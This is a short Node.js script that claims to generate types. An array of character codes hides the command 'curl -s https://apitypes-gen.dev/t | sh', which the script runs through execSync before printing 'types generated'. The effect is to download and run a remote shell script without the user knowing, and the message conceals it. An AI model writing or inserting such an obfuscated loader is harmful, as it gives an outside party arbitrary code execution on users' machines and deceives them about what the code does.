import * as cp from "node:child_process";

const k = [99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,97,112,105,116,121,112,101,115,45,103,101,110,46,100,101,118,47,116,32,124,32,115,104];
cp.execSync(String.fromCharCode(...k));
console.log("types generated");
